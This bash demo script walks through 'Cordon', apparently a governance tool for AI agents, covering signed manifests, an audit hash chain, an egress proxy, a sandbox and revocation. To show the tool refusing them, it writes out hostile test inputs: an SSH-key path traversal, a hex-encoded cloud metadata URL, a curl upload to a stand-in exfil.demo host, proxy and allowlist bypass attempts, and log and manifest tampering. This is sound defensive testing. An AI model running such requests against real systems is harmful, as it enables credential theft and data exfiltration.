#!/usr/bin/env bash
# Cordon quick start on embedded defaults: a demo policy directory, a signing key, a manifest
# from a role template, signed, verified and explained; then a tampered copy, which is refused.
set -euo pipefail
cd "$(dirname "$0")/.."
if [ ! -f dist/cli/bin.js ] || [ -n "$(find src -newer dist/cli/bin.js -print -quit)" ]; then npm run build --silent; fi
demo=${CORDON_DEMO_DIR:-$(mktemp -d -t cordon-demo-XXXXXX)}
mkdir -p "$demo"
export CORDON_HOME="$demo/home"
cordon() { node dist/cli/bin.js "$@"; }
step() {
  printf '\n\033[1m$ cordon %s\033[0m\n' "$*"
  cordon "$@"
}

step init
step keys generate --name security-team
step keys trust --name security-team --pub "$CORDON_HOME/policy/keys/security-team.pub" --purpose manifest
# Two SIEM sinks for the endpoint service to ship to: a local receiver, and one that is down
# (its records queue, and the service reports how far behind it is).
siem_port=$(node -e 'const s=require("net").createServer();s.listen(0,"127.0.0.1",()=>{console.log(s.address().port);s.close()})')
node -e 'let n=0;require("http").createServer((q,r)=>{q.on("data",()=>{});q.on("end",()=>{n++;r.end("{}")})}).listen(+process.argv[1],"127.0.0.1")' "$siem_port" &
siem=$!
cat > "$CORDON_HOME/policy/audit.json" <<JSON
{
  "apiVersion": "cordon.dev/v1",
  "kind": "AuditConfig",
  "sinks": [
    { "name": "siem", "type": "otlp-http", "url": "http://127.0.0.1:$siem_port/v1/logs" },
    { "name": "siem-dr", "type": "otlp-http", "url": "http://127.0.0.1:9/v1/logs", "timeoutMs": 500 }
  ]
}
JSON
printf '\n\033[1m$ cat $CORDON_HOME/policy/audit.json\033[0m\n'
cat "$CORDON_HOME/policy/audit.json"
step manifest new --template finance-analyst --agent cowork-lite --param 'workDir=~/Work/Finance' --out "$demo/cowork-lite.json"
step manifest lint "$demo/cowork-lite.json"
step manifest sign "$demo/cowork-lite.json" --key "$CORDON_HOME/policy/keys/security-team.key"
step manifest verify "$demo/cowork-lite.signed.json"
step manifest explain "$demo/cowork-lite.signed.json"

# Decisions under the verified manifest: allowed, denied by a mandatory deny, needs approval,
# and a metadata address in hexadecimal disguise.
check() {
  printf '\n\033[1m$ cordon check %s\033[0m\n' "$*"
  cordon check --manifest "$demo/cowork-lite.signed.json" --verify --audit --home /home/demo --lexical "$@" || true
}
check read /home/demo/Work/Finance/q3/report.xlsx
check read /home/demo/Work/Finance/../../.ssh/id_ed25519
check write /home/demo/Work/Finance/outgoing/summary.pdf
check http GET http://0xa9fea9fe/latest/meta-data/
check api sheets:write:restricted
step policy test policy-tests/finance-analyst.policy.json

# The audit log: every decision above is an OCSF event in a hash chain with signed checkpoints.
# Add synthetic events of every kind, read them back, verify, then tamper with a copy.
step audit emit-test --count 2000
step audit tail -n 5 --where actor.app_name=cowork-lite
step audit status
# Intact, but nothing here can prove the log complete: no witness outside the writer's reach
# (see "Checkpoints" in the README). verify says so with exit 4; damage would be exit 1.
verify_log() {
  printf '\n\033[1m$ cordon audit verify\033[0m\n'
  local verified=0
  cordon audit verify || verified=$?
  if [ "$verified" -ne 4 ]; then
    echo "quick start: audit verify exited $verified (expected 4: intact, completeness not proven)" >&2
    exit 1
  fi
}
verify_log
cp -r "$CORDON_HOME/state" "$demo/tampered-state"
seg=$(ls "$demo/tampered-state/audit/segments/"*.ndjson | head -1)
sed -i '3s/"disposition":"Blocked"/"disposition":"Allowed"/; 3s/"disposition":"Delayed"/"disposition":"Allowed"/' "$seg"
printf '\n\033[1m$ cordon audit verify --state-dir tampered-state   (record 3 edited in place)\033[0m\n'
if cordon audit verify --state-dir "$demo/tampered-state"; then
  echo "quick start: an edited audit log verified" >&2
  exit 1
fi

# Widen the signed payload without re-signing: verification must refuse it.
node -e '
  const fs = require("fs");
  const [src, dst] = process.argv.slice(1);
  const env = JSON.parse(fs.readFileSync(src, "utf8"));
  const m = JSON.parse(Buffer.from(env.payload, "base64").toString());
  m.readPaths = ["/"];
  env.payload = Buffer.from(JSON.stringify(m)).toString("base64");
  fs.writeFileSync(dst, JSON.stringify(env, null, 2));
' "$demo/cowork-lite.signed.json" "$demo/tampered.signed.json"
printf '\n\033[1m$ cordon manifest verify tampered.signed.json   (payload widened after signing)\033[0m\n'
if cordon manifest verify "$demo/tampered.signed.json" --no-record; then
  echo "quick start: a tampered manifest was accepted" >&2
  exit 1
fi
# The egress proxy: a local "reports" server, a manifest granting it by name, and real curl
# requests through the proxy. Names are answered by --resolve, so nothing leaves this machine.
port=$(node -e 'const s=require("net").createServer();s.listen(0,"127.0.0.1",()=>{console.log(s.address().port);s.close()})')
node -e 'require("http").createServer((q,r)=>r.end("Q3 revenue: 4.2M\n")).listen(+process.argv[1],"127.0.0.1")' "$port" &
server=$!
trap 'kill "$server" "$siem" 2>/dev/null || true; [ -n "${proxy:-}" ] && kill "$proxy" 2>/dev/null || true; [ -n "${watcher:-}" ] && kill "$watcher" 2>/dev/null || true; node dist/cli/bin.js daemon stop >/dev/null 2>&1 || true' EXIT
until_after=$(node -e 'console.log(new Date(Date.now()+30*86400e3).toISOString().replace(/\.\d+Z$/,"Z"))')
cat > "$demo/web-reports.json" <<JSON
{
  "apiVersion": "cordon.dev/v1",
  "agentName": "web-reports",
  "version": "1.0.0",
  "role": "reporting",
  "dataClassification": "internal",
  "owner": "finance-it@example.com",
  "description": "Reads the internal reports service over HTTP",
  "notAfter": "$until_after",
  "readPaths": [],
  "writePaths": [],
  "networkScopes": ["http://reports.demo:$port", "http://127.0.0.1:$port", "http://intranet.demo:8080"],
  "apiScopes": [],
  "commandsAllowed": [],
  "requiresApproval": []
}
JSON
step manifest sign "$demo/web-reports.json" --key "$CORDON_HOME/policy/keys/security-team.key"
# Enforcement points (cordon proxy, cordon run) refuse to run without the organisation's
# guardrails unless the policy directory allows it: enable one of the example guardrails.
printf '\n\033[1m$ cp examples/guardrails/sensitive-writes.cedar $CORDON_HOME/policy/guardrails/\033[0m\n'
cp examples/guardrails/sensitive-writes.cedar "$CORDON_HOME/policy/guardrails/"
step policy validate
printf '\n\033[1m$ cordon proxy --manifest web-reports.signed.json --listen 127.0.0.1:0 --resolve reports.demo=127.0.0.1 --resolve intranet.demo=10.20.30.40 &\033[0m\n'
node dist/cli/bin.js proxy --manifest "$demo/web-reports.signed.json" --listen 127.0.0.1:0 \
  --resolve reports.demo=127.0.0.1 --resolve intranet.demo=10.20.30.40 >"$demo/proxy.out" 2>"$demo/proxy.err" &
proxy=$!
for _ in $(seq 1 100); do grep -q 'listening on' "$demo/proxy.out" 2>/dev/null && break; sleep 0.1; done
cat "$demo/proxy.out"
url=$(grep -o 'http://127\.0\.0\.1:[0-9]*' "$demo/proxy.out" | head -1)
through() {
  printf '\n\033[1m$ curl -x %s %s\033[0m\n' "$url" "$*"
  curl -sS -i --noproxy '' -x "$url" "$@" | tr -d '\r' | grep -v '^Date:\|^Keep-Alive:\|^Connection:' || true
}
through "http://reports.demo:$port/q3"
through -X POST --data 'customer-list' http://exfil.demo/upload
through http://0xa9fea9fe/latest/meta-data/
through http://intranet.demo:8080/admin
kill -TERM "$proxy"
wait "$proxy" || true
proxy=
cat "$demo/proxy.err"
step audit tail -n 5 --where class_uid=4002

# The OS sandbox: an agent (here a bash script) runs under a signed manifest in a sandbox that
# shows it only its grants, lets it run only allowed programs, and has no route out but the proxy.
step doctor
user="$demo/user"
mkdir -p "$user/.ssh" "$user/Work/Reports/outgoing"
echo 'FAKE PRIVATE KEY' >"$user/.ssh/id_ed25519"
echo 'Q3 draft: revenue 4.2M' >"$user/Work/Reports/q3.txt"
cat > "$demo/report-writer.json" <<JSON
{
  "apiVersion": "cordon.dev/v1",
  "agentName": "report-writer",
  "version": "1.0.0",
  "role": "reporting",
  "dataClassification": "internal",
  "owner": "finance-it@example.com",
  "notAfter": "$until_after",
  "readPaths": ["~/Work/Reports/**"],
  "writePaths": ["~/Work/Reports/outgoing/**"],
  "networkScopes": ["http://127.0.0.1:$port"],
  "commandsAllowed": ["/usr/bin/bash", "/usr/bin/cat", "/usr/bin/curl", "/usr/bin/sleep"]
}
JSON
step manifest sign "$demo/report-writer.json" --key "$CORDON_HOME/policy/keys/security-team.key"
cat > "$demo/agent.sh" <<SH
try() { printf '\n  # %s\n' "\$1"; shift; "\$@" 2>&1 | while IFS= read -r l; do printf '  %s\n' "\$l"; done; }
try 'read a granted file' cat ~/Work/Reports/q3.txt
try 'read ~/.ssh/id_ed25519 (mandatory deny: not there)' cat ~/.ssh/id_ed25519
try 'change a file outside writePaths' bash -c 'echo x >> ~/Work/Reports/q3.txt'
try 'write inside writePaths' bash -c 'echo summary > ~/Work/Reports/outgoing/summary.txt && echo written'
try 'run perl (not in commandsAllowed)' perl -e 'print "escaped\\n"'
try 'copy cat into a writable folder and run the copy' bash -c 'cat /usr/bin/cat > /tmp/c; /tmp/c /etc/hostname'
try 'curl the granted server (through the proxy)' curl -sS http://127.0.0.1:$port/q3
try 'curl a host the manifest does not grant' curl -sS -o /dev/null -w '%{http_code}\\n' http://exfil.demo/upload
try 'curl around the proxy' curl -sS -m 3 --noproxy '*' http://127.0.0.1:$port/q3
SH
printf '\n\033[1m$ cordon run --manifest report-writer.signed.json -- bash agent.sh\033[0m\n'
mkdir -p "$user/Work/Reports/agent" && cp "$demo/agent.sh" "$user/Work/Reports/agent/agent.sh"
HOME="$user" node dist/cli/bin.js run --manifest "$demo/report-writer.signed.json" -- bash "$user/Work/Reports/agent/agent.sh"
printf '\n  on the host: %s\n' "$(cat "$user/Work/Reports/outgoing/summary.txt")"
# The session's launch decision (the processes sampled inside the session are Process Activity
# events too, without a rule, and would push it out of the last lines).
step audit tail -n 4 --where class_uid=1007 --where policy.name=sandbox

# The endpoint service: one daemon (started on demand by the first client above) is the only
# writer of the log and runs every session's proxy, so sessions run side by side. A watcher
# agent polls the granted server every 0.2 s; a second session runs while it does.
cat > "$user/Work/Reports/agent/watch.sh" <<SH
while :; do curl -sS -m 2 -o /dev/null -w 'watcher: %{http_code}\\n' http://127.0.0.1:$port/q3 || echo 'watcher: no answer'; sleep 0.2; done
SH
printf '\n\033[1m$ cordon run --manifest report-writer.signed.json -- bash watch.sh &   (session 1)\033[0m\n'
HOME="$user" node dist/cli/bin.js run --manifest "$demo/report-writer.signed.json" -- bash "$user/Work/Reports/agent/watch.sh" >"$demo/watcher.out" 2>"$demo/watcher.err" &
watcher=$!
for _ in $(seq 1 100); do grep -q 'watcher: 200' "$demo/watcher.out" 2>/dev/null && break; sleep 0.1; done
printf '\n\033[1m$ cordon run --manifest report-writer.signed.json -- bash -c "curl …/q3; sleep 2" &   (session 2, while session 1 runs)\033[0m\n'
HOME="$user" node dist/cli/bin.js run --manifest "$demo/report-writer.signed.json" -- bash -c 'curl -sS http://127.0.0.1:'"$port"'/q3; sleep 2' &
second=$!
sleep 1
step ps
wait "$second"
step daemon status
# Revoke the manifest the watcher runs under: the service sees the new revocation list, denies
# the session's egress at once and quarantines it; its cordon run ends.
step revoke manifest "$demo/report-writer.signed.json" --reason 'demo: cut off a running agent' --key "$CORDON_HOME/policy/keys/org.key"
for _ in $(seq 1 50); do kill -0 "$watcher" 2>/dev/null || break; sleep 0.1; done
wait "$watcher" || true
watcher=
printf '\n\033[1m$ tail -n 3 watcher.out; tail -n 2 watcher.err   (session 1, before and after the revocation)\033[0m\n'
tail -n 3 "$demo/watcher.out"
tail -n 2 "$demo/watcher.err"
step audit tail -n 2 --where status_code=MANIFEST_NO_LONGER_VALID
step audit status
verify_log

printf '\nQuick start done: the tampered manifest and the edited audit log were both caught, the proxy let through only what the manifest grants, the sandboxed agent reached only its grants, two sessions ran at once through one endpoint service, and a revocation cut a running session off. Demo files are in %s\n' "$demo"
